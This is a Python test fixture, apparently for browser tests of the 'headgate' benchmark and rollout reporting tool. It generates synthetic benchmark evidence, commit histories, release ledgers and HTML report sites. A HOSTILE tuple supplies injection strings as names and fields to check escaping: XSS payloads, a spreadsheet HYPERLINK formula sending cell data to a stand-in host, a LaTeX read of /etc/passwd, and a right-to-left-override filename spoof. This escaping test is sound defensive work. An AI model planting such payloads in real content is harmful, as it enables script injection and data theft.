"""The sites of the browser tests: every kind of page, of made-up data whose truth is known, and hostile names."""

from __future__ import annotations

import io
import json
import math
import random
import shutil
from pathlib import Path

import numpy as np
import study_results
from asv_trees import DAY, START, commit_of
from rollout_releases import release_plan, units
from sample_verdicts import BASELINE, CANDIDATE, HARDWARE

from headgate.cli.report import write_report
from headgate.cli.report_input import Sources
from headgate.gates.commit import decide, plan_for
from headgate.gates.policy import Policy
from headgate.gates.run import decide_run
from headgate.model import BenchmarkId, BenchmarkSpec, Round, Verdict
from headgate.report.rollout_html import write_releases, write_simulation
from headgate.report.verdict_html import write_verdict_pages
from headgate.report.verdict_view import verdict_view
from headgate.rollout.controller import Controller
from headgate.rollout.ledger import Ledger
from headgate.rollout.router_state import Status
from headgate.rollout.simulate import Simulation, simulate
from headgate.rollout.simulate_input import parse_stable
from headgate.rollout.simulate_traffic import Traffic
from headgate.store.bundle import Evidence, write_evidence

RESULTS = Path(__file__).resolve().parents[2] / "results"
GENERATED = "2026-01-02"
COMMITS, STEP = 30, 18
# Enough that a clear slowdown is told apart among 60 benchmarks.
ROUNDS = 20
# What the brief of an attacker would hold. alert() would open a dialog, which fails every test.
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(2)</script>',
    "javascript:alert(3)",
    '=HYPERLINK("http://x.invalid/?"&A1,"ok")',
    "\\input{/etc/passwd}",
    "\u202egnp.exe",
    "a|b\\|c `d` ${e}",
)
POLICY = Policy(margin=0.05, budget=600.0, required=("suite.*",))
SHAPES = ("small", "wide", "deep", "sparse")


def evidence_of_many() -> Evidence:
    """Return evidence of 60 benchmarks: passing, regressed, inconclusive, failed, improved, and with hostile names."""
    generator = random.Random(20_260_102)
    specs, rounds = [], {}
    for index in range(52):
        id_ = BenchmarkId(f"suite.Time{index // 8}.time_case", (f"'{SHAPES[index % 4]}'", str(10 ** (1 + index % 8))))
        id_ = BenchmarkId(id_.name, id_.params, ("shape", "n"))
        ratio, scatter = (1.3, 0.01) if index % 10 == 3 else (0.8, 0.01) if index % 10 == 6 else (1.0, 0.005)
        scatter = 0.3 if index % 10 == 8 else scatter
        specs.append(BenchmarkSpec(id_, kind="time", unit="seconds"))
        rounds[id_] = _rounds(generator, 1e-7 * 3 ** (index % 14), ratio, scatter)
    for place, name in enumerate(HOSTILE):
        id_ = BenchmarkId(name, (name,), ("p",))
        specs.append(BenchmarkSpec(id_, kind="time", unit="seconds"))
        rounds[id_] = _rounds(generator, 1e-3, 1.25 if place < 3 else 1.0, 0.01)
    failing = BenchmarkSpec(BenchmarkId("suite.Time9.time_broken"), kind="time", unit="seconds")
    failures = {failing.id: f"the candidate raised ValueError: {HOSTILE[0]}"}
    return _decided(rounds, [*specs, failing], failures)


def _rounds(generator: random.Random, base: float, ratio: float, scatter: float) -> list[Round]:
    found = []
    for index in range(ROUNDS):
        level = base * math.exp(generator.gauss(0, 0.03))
        own = ratio * math.exp(generator.gauss(0, scatter))
        baseline = tuple(level * math.exp(abs(generator.gauss(0, 0.01))) for _ in range(3))
        candidate = tuple(level * own * math.exp(abs(generator.gauss(0, 0.01))) for _ in range(3))
        found.append(Round(index, baseline, candidate, "bcb", 100, elapsed=25.0 * index))
    return found


def _decided(rounds, specs, failures) -> Evidence:
    plan = plan_for(POLICY)
    comparisons = decide(rounds, specs, failures, POLICY, plan)
    decision = decide_run(comparisons, POLICY, added=("suite.time_new",), removed=(f"suite.{HOSTILE[0]}",))
    verdict = Verdict(
        state=decision.state,
        baseline=BASELINE,
        candidate=CANDIDATE,
        comparisons=comparisons,
        policy=POLICY.to_json(),
        hardware=HARDWARE,
        wall_seconds=480.0,
        added=("suite.time_new",),
        removed=(f"suite.{HOSTILE[0]}",),
        reasons=decision.reasons,
        warnings=(*decision.warnings, HOSTILE[1]),
    )
    return Evidence(verdict, rounds, tuple(specs), failures, POLICY, plan, versions={"headgate": "0.1.0"})


def write_results(root: Path) -> Path:
    """Write a tree of three machines: the committed one and another with a profile, and one with a history of steps."""
    for machine in ("vm", "laptop"):
        shutil.copytree(RESULTS / "vm", root / machine)
        for name in ("machine.json", "hardware.json"):
            path = root / machine / name
            path.write_text(path.read_text(encoding="utf-8").replace('"vm"', f'"{machine}"'), encoding="utf-8")
        for path in (root / machine).glob("*-virtualenv-*.json"):
            data = json.loads(path.read_text(encoding="utf-8"))
            data["params"]["machine"] = machine
            path.write_text(json.dumps(data), encoding="utf-8")
    described = json.loads((RESULTS / "benchmarks.json").read_text(encoding="utf-8"))
    (root / "benchmarks.json").write_text(json.dumps(described | _write_history(root)), encoding="utf-8")
    return root


def _write_history(root: Path) -> dict[str, object]:
    """Write 30 commits of machine "box" with a step at the 19th; a parameter of three sizes; hostile names beside."""
    rng = np.random.default_rng(5)
    levels = {"suite.Time0.time_case": 1.25, "suite.Time1.time_case": 0.8, "suite.time_steady": 1.0}
    levels |= dict.fromkeys(HOSTILE, 1.3)
    sizes = ["10", "1000", "100000"]
    entry = {"type": "time", "unit": "seconds", "param_names": ["n"], "params": [sizes], "version": "1"}
    for index in range(COMMITS):
        rows = {}
        for name, ratio in levels.items():
            level = ratio if index >= STEP else 1.0
            values = [1e-8 * int(n) * level * math.exp(0.004 * rng.standard_normal()) for n in sizes]
            samples = [[value * math.exp(0.02 * abs(rng.standard_normal())) for _ in range(10)] for value in values]
            rows[name] = [*study_results.row([sizes], values)[:-1], samples]
        document = study_results.run_document(rows, commit=commit_of(index)) | {"date": START + index * DAY}
        path = root / "box" / f"{commit_of(index)[:8]}-virtualenv-py3.11-HEADGATE_THREADS1.json"
        path.parent.mkdir(exist_ok=True)
        path.write_text(json.dumps(document))
    (root / "box" / "machine.json").write_text(json.dumps({"version": 1, "machine": "box"}))
    return {name: {"name": name, **entry} for name in levels}


def write_sites(root: Path) -> dict[str, Path]:
    """Write every site below ``root`` and return each one's directory by its name.

    ``report`` has every page of ``headgate report``; ``committed`` is that of the committed results; ``compared`` is
    what ``headgate compare --html`` writes and ``checked`` what ``check --html`` does, without evidence;
    ``releases`` and ``simulation`` are those of ``headgate rollout``.
    """
    evidence = evidence_of_many()
    file = root / "evidence.json.gz"
    write_evidence(file, evidence)
    results = write_results(root / "results")
    sites = {name: root / name for name in ("report", "committed", "compared", "checked", "releases", "simulation")}
    link = "https://example.org/{commit}"
    write_report(Sources(results, machine="box", verdicts=[file], link=link), sites["report"], io.StringIO())
    write_report(Sources(RESULTS), sites["committed"], io.StringIO())
    skipped = {"suite.TimeGPU.time_copy": f"no GPU {HOSTILE[0]}"}
    view = verdict_view(evidence.verdict, evidence_file=file.name, skipped=skipped)
    # A page a benchmark is the same page each time: the hostile ones and a few others have their rounds here.
    few = dict([*list(evidence.rounds.items())[:4], *list(evidence.rounds.items())[-len(HOSTILE) :]])
    write_verdict_pages(sites["compared"], view, rounds=few, generated=GENERATED)
    write_verdict_pages(sites["checked"], verdict_view(evidence.verdict), generated=GENERATED)
    write_releases(sites["releases"], _releases(root / "rollout.sqlite"), generated=GENERATED)
    write_simulation(sites["simulation"], _simulation(), "headgate rollout simulate", generated=GENERATED)
    return sites


def _releases(path: Path) -> dict[str, tuple[list, list]]:
    """Lead three releases: one that completes, one that is halted, one that a person with a hostile name moves on."""
    plan, now = release_plan(), [1_790_000_000.0]
    with Ledger(path, create=True) as ledger:
        for name, worse, turns in (("good", 1.0, 6), ("bad", 2.5, 6), (HOSTILE[6], 1.2, 0)):
            controller = Controller(ledger, plan, name, actor=HOSTILE[0], clock=lambda: now[0])
            controller.start(HOSTILE[4])
            for turn in range(turns):
                now[0] += 60.0
                state = controller.state()
                if state.status is Status.RUNNING:
                    controller.record(units(plan, state.stage, 1_500, worse=worse, seed=turn, window=f"w{turn}"))
                    controller.step()
            if not turns:
                controller.override("advance", HOSTILE[1], now[0] + 600.0)
                controller.advance()
        return {name: (list(ledger.events(name)), ledger.verify(name)) for name in ledger.releases()}


def _simulation() -> Simulation:
    stable = parse_stable(["errors=10%", "seconds=0.4,scatter=0.5"])
    return simulate(release_plan(), Traffic(25.0, 60.0), stable, seeds=20, seed=0, workers=1, source=HOSTILE[1])
